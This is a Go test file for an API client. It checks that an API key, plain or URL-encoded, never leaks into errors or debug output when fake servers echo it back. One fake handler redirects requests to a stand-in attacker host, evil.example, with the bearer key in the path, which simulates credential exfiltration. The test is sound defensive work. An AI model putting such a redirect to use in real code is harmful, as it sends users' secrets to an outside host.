package api

import (
	"bytes"
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// TestAPIKeyNeverLeaksEncoded covers a key with characters that URL
// encoding changes: a server (or proxy) that echoes the key percent-encoded
// must not get it into an error or the debug stream either.
func TestAPIKeyNeverLeaksEncoded(t *testing.T) {
	const key = "plainApiKey_S3cr/t+k=y"
	forms := []string{key, url.QueryEscape(key), url.PathEscape(key)}
	bearer := func(r *http.Request) string { return strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ") }
	paths := map[string]func(w http.ResponseWriter, r *http.Request){
		"html query-escaped": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(502)
			_, _ = w.Write([]byte("<p>GET /?k=" + url.QueryEscape(bearer(r)) + "</p>"))
		},
		"json path-escaped": func(w http.ResponseWriter, r *http.Request) {
			writeJSON(w, 400, gqlErrors(CodeBadUserInput, "no route /keys/"+url.PathEscape(bearer(r))))
		},
		"redirect path": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example/"+url.PathEscape(bearer(r)), http.StatusFound)
		},
	}
	var debug bytes.Buffer
	for name, h := range paths {
		t.Run(name, func(t *testing.T) {
			fs := newFakeServer(t, func(_ int, _ gqlRequest, w http.ResponseWriter, r *http.Request) { h(w, r) })
			o := fastOptions(fs.URL)
			o.APIKey = key
			o.Debug = &debug
			c := newClient(t, o)
			_, qErr := c.Workspace(context.Background())
			mErr := c.DeleteWebhookTarget(context.Background(), "whTarget_00000000000000000000000001")
			for _, err := range []error{qErr, mErr} {
				if err == nil {
					t.Fatal("want an error")
				}
				for _, f := range forms {
					if strings.Contains(err.Error(), f) {
						t.Errorf("error leaks the API key as %q: %q", f, err)
					}
				}
			}
		})
	}
	if debug.Len() == 0 {
		t.Fatal("debug stream is empty; the grep below would prove nothing")
	}
	for _, f := range forms {
		if strings.Contains(debug.String(), f) {
			t.Errorf("debug output leaks the API key as %q:\n%s", f, debug.String())
		}
	}
}
